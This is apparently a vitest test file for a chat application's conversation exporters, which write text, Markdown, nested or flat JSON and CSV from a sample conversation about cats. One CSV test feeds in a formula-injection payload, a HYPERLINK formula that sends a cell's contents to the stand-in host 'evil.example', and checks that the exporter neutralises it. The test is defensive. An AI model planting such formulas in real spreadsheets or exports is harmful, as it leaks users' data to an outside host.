import { ROOT_PARENT_ID, type Conversation, type Message } from '@parley/core';
import { describe, expect, it } from 'vitest';
import { csvField, exportCsv } from './export-csv.ts';
import { exportJson } from './export-json.ts';
import { endpointOptions, type ExportSource } from './export-source.ts';
import { exportMarkdown, exportText } from './export-text.ts';

const conversation: Conversation = {
  conversationId: 'c1',
  title: 'Cats, "quoted"',
  endpoint: 'openAI',
  model: 'gpt-4o',
  tools: [],
  temperature: 0.7,
  promptPrefix: null,
  createdAt: '2024-05-01T10:00:00.000Z',
  updatedAt: '2024-05-01T10:05:00.000Z',
};

function message(messageId: string, parentMessageId: string, isCreatedByUser: boolean, text: string, extra: Partial<Message> = {}): Message {
  return {
    messageId,
    conversationId: 'c1',
    parentMessageId,
    sender: isCreatedByUser ? 'User' : 'ChatGPT',
    text,
    isCreatedByUser,
    model: 'gpt-4o',
    endpoint: 'openAI',
    error: false,
    unfinished: false,
    cancelled: false,
    isEdited: false,
    finish_reason: null,
    createdAt: '2024-05-01T10:00:00.000Z',
    updatedAt: '2024-05-01T10:00:00.000Z',
    ...extra,
  };
}

// u1 → a1 → u2 → a2, and a1r: a regenerated sibling of a1.
const u1 = message('u1', ROOT_PARENT_ID, true, 'Tell me about cats');
const a1 = message('a1', 'u1', false, 'Cats purr.');
const a1r = message('a1r', 'u1', false, 'Cats, mostly, sleep.');
const u2 = message('u2', 'a1', true, '猫呢？');
const a2 = message('a2', 'u2', false, 'Stopped early', { cancelled: true });
const all = [u1, a1, u2, a2, a1r];
const branch = [u1, a1, u2, a2];
const source = (messages: Message[]): ExportSource => ({ conversation, messages, exportedAt: new Date('2024-06-01T12:00:00.000Z') });

describe('endpointOptions', () => {
  it('keeps the endpoint settings and leaves out identity fields and unset values', () => {
    expect(endpointOptions(conversation)).toEqual({ model: 'gpt-4o', temperature: 0.7 });
  });
});

describe('exportText', () => {
  it('writes the header, then each message as ">> sender:" and its text, in order', () => {
    const text = exportText(source(branch), false);
    expect(text).toContain('conversationId: c1\nendpoint: openAI\ntitle: Cats, "quoted"\nexportAt: 2024-06-01T12:00:00.000Z');
    expect(text).toContain('>> User:\nTell me about cats\n\n>> ChatGPT:\nCats purr.\n\n>> User:\n猫呢？');
    expect(text).not.toContain('Options');
    expect(text.indexOf('Tell me about cats')).toBeLessThan(text.indexOf('Cats purr.'));
  });

  it('adds the options block only when asked, and flags a cancelled reply', () => {
    const text = exportText(source(branch), true);
    expect(text).toContain('Options\n########################\nmodel: gpt-4o\ntemperature: 0.7\n');
    expect(text).toContain('>> ChatGPT:\n(This is a cancelled message)\nStopped early');
  });
});

describe('exportMarkdown', () => {
  it('writes headings, facts as a list and a bold sender per message', () => {
    const md = exportMarkdown(source(branch), true);
    expect(md.startsWith('# Conversation\n- conversationId: c1\n')).toBe(true);
    expect(md).toContain('## Options\n- model: gpt-4o\n- temperature: 0.7\n');
    expect(md).toContain('## History\n**User:**\nTell me about cats\n\n**ChatGPT:**\nCats purr.\n');
    expect(md).toContain('**ChatGPT:**\n*(This is a cancelled message)*\nStopped early');
  });

  it('leaves the options out when not asked', () => {
    expect(exportMarkdown(source(branch), false)).not.toContain('## Options');
  });
});

describe('exportJson', () => {
  it('nests replies under their parent in `children` when recursive, siblings side by side', () => {
    const doc = JSON.parse(exportJson(source(all), { includeOptions: true, branches: true, recursive: true }));
    expect(doc).toMatchObject({ conversationId: 'c1', title: 'Cats, "quoted"', branches: true, recursive: true, options: { temperature: 0.7 } });
    expect(doc.messages).toHaveLength(1);
    expect(doc.messages[0].messageId).toBe('u1');
    expect(doc.messages[0].children.map((m: Message) => m.messageId)).toEqual(['a1', 'a1r']);
    expect(doc.messages[0].children[0].children[0].children[0].messageId).toBe('a2');
    expect(doc.messages[0].children[0].children[0].children[0].children).toEqual([]);
  });

  it('writes one flat list without `children` when not recursive, and no options unless asked', () => {
    const doc = JSON.parse(exportJson(source(all), { includeOptions: false, branches: true, recursive: false }));
    expect(doc.messages.map((m: Message) => m.messageId)).toEqual(['u1', 'a1', 'u2', 'a2', 'a1r']);
    expect(doc.messages[0]).not.toHaveProperty('children');
    expect(doc).not.toHaveProperty('options');
    expect(doc.recursive).toBe(false);
  });
});

describe('exportCsv', () => {
  it('quotes fields with commas, quotes, line breaks or edge spaces, and leaves plain ones bare', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
  });

  it('neutralises cells a spreadsheet would run as formulas (= + - @, tab, carriage return)', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?d="&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`);
    expect(csvField('+1+2')).toBe("'+1+2");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('a=b')).toBe('a=b');
  });

  it('writes a BOM, the header and one CRLF-terminated row per message', () => {
    const csv = exportCsv([u1, a1r, a2]);
    expect(csv.startsWith('\uFEFFsender,text,isCreatedByUser,error,unfinished,cancelled,messageId,parentMessageId,createdAt\r\n')).toBe(true);
    const rows = csv.slice(1).trimEnd().split('\r\n');
    expect(rows).toHaveLength(4);
    expect(rows[1]).toBe(`User,Tell me about cats,true,false,false,false,u1,${ROOT_PARENT_ID},2024-05-01T10:00:00.000Z`);
    expect(rows[2]).toBe('ChatGPT,"Cats, mostly, sleep.",false,false,false,false,a1r,u1,2024-05-01T10:00:00.000Z');
    expect(rows[3]).toContain(',true,a2,u2,');
  });
});
